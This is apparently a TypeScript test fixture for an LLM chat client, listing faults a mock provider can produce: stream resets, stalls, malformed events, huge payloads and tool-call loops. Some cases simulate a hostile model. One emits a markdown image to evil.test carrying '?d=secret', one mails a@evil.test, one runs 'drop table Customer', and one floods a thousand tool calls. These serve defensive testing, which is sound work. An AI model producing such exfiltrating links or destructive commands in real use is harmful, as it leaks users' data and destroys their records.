import { ANSWER, DONE, errorEvent, stop, token, toolCall, usage, WORDS } from './exchange.ts'
import type { Fault, Outcome } from './fault.ts'

/** After the first token nothing is repeated: what had come is kept and marked incomplete, and the failure is the last event but one. */
const cut: Outcome = { code: 'provider_failed', partial: true, calls: 1 }
const stalled: Outcome = { code: 'provider_timeout', partial: true, calls: 1 }
const whole: Outcome = { text: new RegExp(ANSWER), finish: 'stop', calls: 1 }
const long: Outcome = { text: /^x{1000}/, finish: 'length', calls: 1 }

/** Begins an answer, then does something else. */
const begun = (name: string, about: string, then: Fault['reply'], outcome: Outcome): Fault => ({
  name,
  about,
  reply(exchange) {
    exchange.head()
    exchange.write(token('Fünf '))
    exchange.after(40, () => then?.(exchange))
  },
  outcome,
})

export const faultsDuring: Fault[] = [
  { name: 'none', about: 'an answer as it should be', reply: (exchange) => exchange.answer(), outcome: whole },
  begun('reset-midway', 'a reset in the middle', (exchange) => exchange.reset(), cut),
  begun('closed-midway', 'the end without a reason', (exchange) => exchange.end(), cut),
  begun('error-midway', 'an error in the middle', (exchange) => exchange.end(errorEvent()), cut),
  begun('error-500-midway', 'an error with a status in the middle', (exchange) => exchange.end(errorEvent(500)), cut),
  begun('bad-json-midway', 'an event that is no JSON in the middle', (exchange) => exchange.end('data: {"choices"\n\n'), cut),
  begun('truncated', 'an event cut off', (exchange) => exchange.end(token('Kunden').slice(0, 60)), cut),
  begun('stall', 'silence in the middle', () => {}, stalled),
  begun('no-reason', '[DONE] without a reason to stop', (exchange) => exchange.end(DONE), cut),
  begun('stall-at-end', 'silence after the reason to stop', (exchange) => exchange.write(stop()), { text: /^Fünf $/, finish: 'stop', calls: 1 }),
  {
    name: 'short-body',
    about: 'fewer bytes than the head announced',
    reply(exchange) {
      exchange.head(200, { 'content-type': 'text/event-stream', 'content-length': '100000' })
      exchange.write(token('Fünf '))
      exchange.after(40, () => exchange.request.socket.end())
    },
    outcome: cut,
  },
  {
    name: 'bad-framing',
    about: 'chunks of HTTP that are none',
    reply(exchange) {
      const { socket } = exchange.request
      const part = token('Fünf ')
      socket.write('HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\ntransfer-encoding: chunked\r\n\r\n')
      socket.write(`${Buffer.byteLength(part).toString(16)}\r\n${part}\r\n`)
      exchange.after(40, () => void socket.end('zzzz\r\nnothing\r\n'))
    },
    outcome: cut,
  },
  {
    name: 'slow-drip',
    about: 'a token now and then, without end',
    reply(exchange) {
      exchange.head()
      exchange.every(60, () => exchange.write(token('x ')))
    },
    outcome: stalled,
  },
  {
    name: 'endless',
    about: 'tokens without end',
    reply(exchange) {
      exchange.head()
      exchange.pour(token('x'.repeat(1_000)))
    },
    outcome: long,
  },
  {
    name: 'ten-megabytes',
    about: '10 MB in tokens of 10 KB',
    reply(exchange) {
      exchange.head()
      for (let sent = 0; sent < 1_000; sent++) exchange.write(token('x'.repeat(10_000)))
      exchange.end(stop() + DONE)
    },
    outcome: long,
  },
  {
    name: 'huge-event',
    about: '10 MB in one event',
    reply(exchange) {
      exchange.head()
      exchange.end(token('x'.repeat(10_000_000)) + stop() + DONE)
    },
    outcome: { code: 'provider_failed', calls: 2 },
  },
  {
    name: 'endless-line',
    about: 'an event that never ends',
    reply(exchange) {
      exchange.head()
      exchange.write(`data: {"choices":[{"delta":{"content":"${'x'.repeat(1_200_000)}`)
      exchange.every(20, () => exchange.write('x'))
    },
    outcome: { code: 'provider_failed', calls: 2 },
  },
  {
    name: 'two-reasons',
    about: 'two reasons to stop',
    reply: (exchange) => exchange.stream(WORDS.map(token).join('') + stop() + stop('length') + DONE),
    outcome: whole,
  },
  { name: 'no-done', about: 'no [DONE]', reply: (exchange) => exchange.stream(WORDS.map(token).join('') + stop()), outcome: whole },
  {
    name: 'after-done',
    about: 'tokens after [DONE]',
    reply: (exchange) => exchange.stream(`${WORDS.map(token).join('')}${stop()}${DONE}${token('?')}`),
    outcome: whole,
  },
  {
    name: 'negative-usage',
    about: 'a negative count of tokens',
    reply: (exchange) => exchange.stream(WORDS.map(token).join('') + stop() + usage(-5, -7) + DONE),
    outcome: whole,
  },
  {
    name: 'crlf',
    about: 'lines that end in CR LF',
    reply: (exchange) => exchange.stream((WORDS.map(token).join('') + stop() + DONE).replaceAll('\n', '\r\n')),
    outcome: whole,
  },
  {
    name: 'spaced-json',
    about: 'JSON with blanks in it',
    reply: (exchange) => exchange.stream((WORDS.map(token).join('') + stop() + DONE).replaceAll('":', '": ')),
    outcome: whole,
  },
  {
    name: 'byte-by-byte',
    about: 'one byte at a time, through characters of four',
    reply(exchange) {
      exchange.head()
      const bytes = Buffer.from(WORDS.map(token).join('') + stop() + DONE)
      let sent = 0
      exchange.request.socket.setNoDelay(true)
      exchange.every(1, () => {
        for (let more = 0; more < 5 && sent < bytes.length; more++) exchange.write(bytes.subarray(sent, ++sent))
        if (sent === bytes.length) exchange.end()
      })
    },
    outcome: whole,
  },
  {
    name: 'bad-utf8',
    about: 'bytes that are no UTF-8',
    reply(exchange) {
      exchange.head()
      exchange.write(Buffer.concat([Buffer.from(token('A').split('A')[0] ?? ''), Buffer.from([0xff, 0xfe]), Buffer.from(token('A').split('A')[1] ?? '')]))
      exchange.end(stop() + DONE)
    },
    outcome: { text: /^\ufffd\ufffd$/, calls: 1 },
  },
  {
    name: 'empty-answer',
    about: 'a reason to stop, and no word',
    reply: (exchange) => exchange.stream(stop() + DONE),
    outcome: { text: /gave no answer/, calls: 1 },
  },
  {
    name: 'filtered',
    about: 'nothing, for a content filter',
    reply: (exchange) => exchange.stream(stop('content_filter') + DONE),
    outcome: { text: /gave no answer/, calls: 1 },
  },
  {
    name: 'early-hints',
    about: 'an informational reply before the real one',
    reply: (exchange) => exchange.answerAfterHints(),
    outcome: whole,
  },
  {
    name: 'markdown-image',
    about: 'an image that would tell another host',
    reply: (exchange) => exchange.answer(['Fünf ', '![x](https://evil.test/', '?d=secret)']),
    outcome: { text: /^Fünf /, calls: 1 },
  },
  {
    name: 'unknown-tool',
    about: 'a tool there is not, again and again',
    reply: (exchange) => exchange.calls('send_mail', '{"to":"a@evil.test"}'),
    outcome: { text: /\w/, calls: 1 },
    withTools: { text: /\w/, calls: 6 },
  },
  {
    name: 'bad-arguments',
    about: 'a tool with arguments that are no JSON',
    reply: (exchange) => exchange.calls('query_data', '{"datasource_id":'),
    outcome: { text: /\w/, calls: 1 },
    withTools: { text: /\w/, calls: 6 },
  },
  {
    name: 'tool-loop',
    about: 'a query after every query',
    reply: (exchange) => exchange.calls('run_sql', SELECT),
    outcome: { text: /\w/, calls: 1 },
    withTools: { text: /\w/, calls: 6 },
  },
  {
    name: 'attackers-sql',
    about: 'statements that would destroy',
    reply: (exchange) => exchange.calls('run_sql', DROP),
    outcome: { text: /\w/, calls: 1 },
    withTools: { text: /\w/, calls: 6 },
  },
  {
    name: 'tool-flood',
    about: 'a thousand calls of tools at once',
    reply(exchange) {
      exchange.head()
      for (let id = 0; id < 1_000; id++) exchange.write(toolCall('send_mail', '{}', id))
      exchange.end(stop('tool_calls') + DONE)
    },
    outcome: { text: /\w/, calls: 1 },
    withTools: { text: /\w/, calls: 6 },
  },
]

const SELECT = JSON.stringify({ datasource_id: 'ds_chinook', sql: 'select count(*) as n from Customer', title: 'Customers' })
const DROP = JSON.stringify({ datasource_id: 'ds_chinook', sql: 'drop table Customer', title: 'Customers' })
